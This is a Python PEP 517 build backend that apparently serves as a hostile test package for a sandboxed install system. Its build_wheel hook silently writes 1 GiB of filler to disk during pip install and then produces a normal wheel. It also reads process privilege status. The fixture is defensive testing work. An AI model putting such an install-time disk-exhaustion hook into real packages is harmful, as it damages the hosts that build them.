"""In-tree PEP 517 backend: pip runs this module's hooks at install time, in the build sandbox."""
import base64
import hashlib
import json
import os
import sys
import zipfile

NAME = "aecc_hostile_huge"
DIST = f"{NAME}-1.0"


def _status():
    out = {}
    with open("/proc/self/status") as fh:
        for line in fh:
            key, _, value = line.partition(":")
            if key in ("Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"):
                out[key] = value.strip()
    return out


def _wheel(wheel_directory):
    files = {
        f"{NAME}/__init__.py": b"",
        f"{DIST}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n".encode(),
        f"{DIST}.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(data)}")
    record.append(f"{DIST}.dist-info/RECORD,,")
    files[f"{DIST}.dist-info/RECORD"] = ("\n".join(record) + "\n").encode()
    wheel = f"{DIST}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return wheel


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_sdist(sdist_directory, config_settings=None):
    raise RuntimeError("not needed")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """Writes 1 GiB into the image layer being built (a writable root on the host's disk), then
    installs normally: without a cap on the layer, every such build costs the host that much disk."""
    written = 0
    with open("/opt/submission/HOSTILE-huge.bin", "wb") as fh:
        while written < 1024**3:
            fh.write(b"\x5a" * (16 << 20))
            written += 16 << 20
    print("HOSTILE-FACTS huge_install " + json.dumps({"written": written}), flush=True)
    return _wheel(wheel_directory)
